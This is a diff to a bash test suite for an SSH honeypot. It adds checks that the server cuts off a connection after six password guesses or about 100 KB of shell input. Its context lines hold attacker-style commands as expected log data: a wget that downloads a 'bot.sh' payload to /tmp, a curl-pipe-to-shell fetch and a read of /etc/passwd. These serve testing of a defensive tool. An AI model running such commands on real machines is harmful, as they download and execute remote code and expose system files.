@@ -40,6 +40,7 @@ user = "$HP_USER"
 [limits]
 sessions_per_address = $PER_ADDRESS
 auth_attempts = 6
+session_bytes = 65536
 session_seconds = 120
 [[accepted]]
 user = "root"
@@ -156,6 +157,51 @@ if ch.recv_exit_status() != 0:
 c.close()
 PYTHON
 
+step "per-connection limits: the 7th password on one connection, 100 KB typed into a shell"
+expect_exit 0 timeout 60 "$PY" - "$PORT" <<'PYTHON'
+import socket, sys, time, paramiko
+port = int(sys.argv[1])
+t = paramiko.Transport(socket.create_connection(("127.0.0.1", port), timeout=10))
+t.start_client(timeout=10)
+tries = 0
+try:
+    for i in range(10):
+        try:
+            t.auth_password("oracle", "guess%d" % i)
+            sys.exit("a guess was accepted")
+        except paramiko.AuthenticationException:
+            tries += 1
+except (paramiko.SSHException, EOFError, OSError):
+    pass
+# Closed after the 6th refusal; a 7th already on its way in the same read may still get
+# its refusal (never recorded: the events are checked below).
+if tries not in (6, 7):
+    sys.exit("expected the connection closed after 6 tries, got %d" % tries)
+t.close()
+c = paramiko.SSHClient()
+c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+c.connect("127.0.0.1", port=port, username="admin", password="admin", look_for_keys=False,
+          allow_agent=False, timeout=10)
+ch = c.invoke_shell()
+try:
+    for _ in range(100):
+        ch.send("echo " + "A" * 1000 + "\r")
+        while ch.recv_ready():
+            ch.recv(65536)
+except (OSError, EOFError, paramiko.SSHException):
+    pass  # the server closed the connection under the sender: what is expected
+# paramiko's reader thread notices the close on its own time: bounded wait for it.
+deadline = time.monotonic() + 10
+while c.get_transport().is_active() and time.monotonic() < deadline:
+    time.sleep(0.05)
+if c.get_transport().is_active():
+    sys.exit("the connection is still open past session_bytes")
+PYTHON
+limit_hit() { [[ $(count_of "$(action_is ssh-limit-reached) and e[\"mamori\"][\"ssh\"][\"limit\"] == \"$1\" and e[\"mamori\"][\"ssh\"][\"policy\"] == \"disconnect\"") -eq 1 ]]; }
+WAIT_ON=$HP_STATE wait_for "one auth-attempts limit event" limit_hit auth-attempts
+WAIT_ON=$HP_STATE wait_for "one session-bytes limit event" limit_hit session-bytes
+assert_eq 6 "$(count_of "$(action_is ssh-login-failed) and e[\"user\"][\"name\"] == \"oracle\"")" "oracle's recorded tries"
+
 step "every session ended (and was reaped)"
 all_ended() { [[ $(count_of "$(action_is ssh-session-ended)") -ge $(count_of "$(action_is ssh-connection)") ]]; }
 WAIT_ON=$HP_STATE WAIT_SECONDS=20 WAIT_EXPLAIN='tail -n 5 "$HP_EVENTS"' wait_for "a session-ended event for every connection" all_ended
@@ -166,7 +212,7 @@ for pw in 123456 password toor 'root;--'; do
   assert_eq 1 "$n" "ssh-login-failed events for password '$pw'"
 done
 assert_eq 1 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"root\" and e[\"mamori\"][\"ssh\"][\"password\"] == \"Winter2024!\" and e[\"event\"][\"outcome\"] == \"success\"")" "root's accepted login"
-assert_eq 1 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"admin\"")" "admin's accepted login"
+assert_eq 2 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"admin\"")" "admin's accepted logins (the shell, the 100 KB one)"
 assert_eq 1 "$(count_of "$(action_is ssh-login-failed) and e[\"user\"][\"name\"] == \"git\" and e[\"mamori\"][\"ssh\"][\"auth_method\"] == \"publickey\" and e[\"mamori\"][\"ssh\"][\"key_type\"] == \"ssh-ed25519\" and e[\"mamori\"][\"ssh\"][\"key_fingerprint\"] == \"$want_fp\"")" "the public-key attempt with its fingerprint $want_fp"
 assert_eq 1 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"uname -a; id; wget http://malware.example/bot.sh -O /tmp/.x; cat /etc/passwd\" and e[\"user\"][\"name\"] == \"root\"")" "the exec'ed command line"
 for cmd in whoami pwd 'curl -fsSL http://203.0.113.5/x | sh' nosuchcmd exit; do
